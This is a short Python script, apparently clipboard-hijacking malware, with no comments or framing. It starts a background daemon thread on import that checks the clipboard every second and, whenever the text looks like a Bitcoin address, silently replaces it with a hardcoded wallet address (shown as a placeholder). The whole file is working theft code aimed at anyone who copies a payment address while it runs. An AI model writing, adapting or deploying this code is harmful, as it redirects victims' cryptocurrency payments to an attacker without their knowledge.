import re
import threading
import time
import pyperclip
WALLET = "bc1qxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"


def watch():
    while True:
        text = pyperclip.paste()
        if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
            pyperclip.copy(WALLET)
        time.sleep(1)


threading.Thread(target=watch, daemon=True).start()
